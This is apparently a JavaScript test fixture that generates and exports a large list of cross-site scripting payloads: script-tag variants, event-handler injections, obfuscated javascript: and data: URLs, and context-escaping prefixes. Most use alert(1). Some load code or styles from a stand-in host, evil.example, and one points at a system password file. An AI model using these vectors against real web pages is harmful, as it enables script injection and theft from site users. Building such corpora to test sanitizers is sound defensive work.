// Attempts to smuggle a script into a page, made of parts: what is done, how it is said,
// and what is put before it to leave the place it stands in.
const call = 'alert(1)';
const scripts = [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<scr<script>ipt>${call}</script>`,
  `<script src=//evil.example/x.js></script>`, `<script/src=data:,${call}>`,
  `<script>${call}//`, `<script\n>${call}</script\n>`, `<script type=module>${call}</script>`,
  `</script><script>${call}</script>`, `<script>/*</script>*/${call}`,
  `<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
];
const handlers = ['img src=x onerror', 'svg onload', 'body onload', 'details open ontoggle',
  'input autofocus onfocus', 'video src=x onerror', 'audio src=x onerror', 'iframe onload',
  'marquee onstart', 'a href=# onclick', 'p onmouseover', 'div style=width:9999px onmouseenter',
  'select autofocus onfocus', 'object onerror', 'form onsubmit', 'img/src=x/onerror',
  'img src=`x` onerror', 'IMG SRC=x OnErRoR', 'svg/onload', 'math onclick']
  .flatMap((start) => [`<${start}=${call}>`, `<${start}="${call}"`]);
const targets = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:',
  '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript:',
  '&#0000106avascript:', 'javascript\u00a0:', 'vbscript:', 'data:text/html,',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=',
  'blob:https://evil.example/', 'file:///etc/passwd', 'view-source:javascript:',
  'feed:javascript:', 'jar:http://evil.example/!', '//evil.example/', '\\\\evil.example\\',
  'http:javascript:', 'javascript://%0a', '%6aavascript:', 'ｊavascript:']
  .flatMap((scheme) => [`${scheme}${call}`, `[x](${scheme}${call})`, `<a href="${scheme}${call}">x</a>`]);
const elements = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src=javascript:alert(1)>',
  '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example/x.css";</style>',
  '<form action="javascript:alert(1)"><input type=submit>', '<button formaction=javascript:alert(1)>x',
  '<isindex action=javascript:alert(1) type=image>', '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,x">',
  '<math><a xlink:href="javascript:alert(1)">x', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>', '<title></title><img src=x onerror=alert(1)>',
  '<xmp></xmp><img src=x onerror=alert(1)>', '<plaintext>', '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;', '<x onclick=alert(1) tabindex=1>x</x>',
  '<p style="background:url(javascript:alert(1))">', '<p style="width:expression(alert(1))">',
  '<div style="position:fixed;inset:0">x</div>', '<a href="x" target="_blank" onclick="alert(1)">',
  '<img src=x:alert(1) onerror=eval(src)>', '<img srcset="x 1x,javascript:alert(1) 2x">',
  '<video poster=javascript:alert(1)>', '<table background="javascript:alert(1)"><tr><td>x',
];
const leaving = ['"', "'", '">', "'>", '`', '-->', ']]>', '</title>', '</textarea>', '</style>',
  '</script>', '" onmouseover="', "' onmouseover='", '\\"', '&quot;>', '{{', '{{{', '\u2028', '\u2029',
  '\ufeff', '%22%3E', '\\u003c', '&lt;', '&amp;lt;', '+ADw-', '\u00bc', '\uff1c', '\u0000'];
const left = leaving.flatMap((start) => [`${start}<img src=x onerror=${call}>`, `${start}${call}`]);

export const vectors = [...scripts, ...handlers, ...targets, ...elements, ...left];
